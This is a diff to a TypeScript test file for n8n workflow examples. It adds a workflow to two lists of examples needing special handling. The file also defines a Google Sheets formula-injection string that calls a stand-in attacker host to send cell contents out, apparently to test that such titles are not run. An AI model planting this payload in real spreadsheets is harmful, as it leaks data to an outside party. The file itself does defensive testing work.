@@ -23,11 +23,15 @@ import { until } from '../harness/until.mts';
 import { activate, buyingAnew, deactivate, saveWorkflow } from '../harness/workflows.mts';
 import type { Workflow } from '../harness/workflows.mts';
 
-/** What an execution starts that has failed. */
-const WITHOUT_OUR_NODE = ['tell-what-failed'];
+/** What an execution starts that has failed, and what reads a table. */
+const WITHOUT_OUR_NODE = ['costs-of-the-week-to-slack', 'tell-what-failed'];
 
 /** Nodes of n8n's that n8n 1 has not: see suites/examplesOn2.mts. */
-const NEED_N8N_2 = ['agent-that-asks-first', 'new-posts-to-a-data-table'];
+const NEED_N8N_2 = [
+	'agent-that-asks-first',
+	'costs-of-the-week-to-slack',
+	'new-posts-to-a-data-table',
+];
 
 /** A title that Google Sheets runs if it takes it for what a person typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
